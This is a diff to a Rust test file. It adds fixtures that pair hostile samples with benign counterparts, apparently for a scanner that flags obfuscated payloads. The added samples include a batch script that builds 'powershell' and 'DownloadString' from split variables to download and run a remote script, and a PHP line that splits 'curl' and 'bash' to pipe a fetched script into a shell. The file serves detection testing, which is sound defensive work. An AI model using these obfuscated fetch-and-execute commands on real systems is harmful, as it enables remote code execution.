@@ -3186,6 +3186,27 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
         "const job = await (await fetch(QUEUE)).text();\nexecSync(job);",
         "const cmd = \"npm run build\";\nconst res = await fetch(STATUS_URL);\nexecSync(cmd, { stdio: \"inherit\" });",
     ),
+    // Issue 18 (misses10b): a batch file's `set` values expanded where
+    // `%a%%b%` stands, and a method named by a string read as the method.
+    (
+        "shell-assembly",
+        "scripts/x.cmd",
+        "%p1%%p2% -nop -c \"Get-Date\"",
+        "echo %DATE% %TIME%",
+    ),
+    (
+        "assembled-payload",
+        "scripts/x.cmd",
+        "set p1=power\nset p2=shell\nset m=Down\nset m=%m%loadString\n%p1%%p2% -c \"$w=New-Object Net.WebClient;$s=$w.('%m%')('https://x.example.net/e.ps1');&([scriptblock]::Create($s))\"",
+        "set p1=power\nset p2=shell\nset m=Get\nset m=%m%-Date\n%p1%%p2% -c \"$d=%m%;Write-Output ('built ' + $d.ToString())\"",
+    ),
+    // PHP's `.` with no space: `'cu'.'rl'` joins as `'cu' . 'rl'` does.
+    (
+        "assembled-payload",
+        "scripts/x.php",
+        "<?php\nsystem('cu'.'rl -s https://x.example.net/i | ba'.'sh');",
+        "<?php\necho 'cu'.'rl -s https://x.example.net/i is how the docs fetch it';",
+    ),
 ];
 
 #[test]
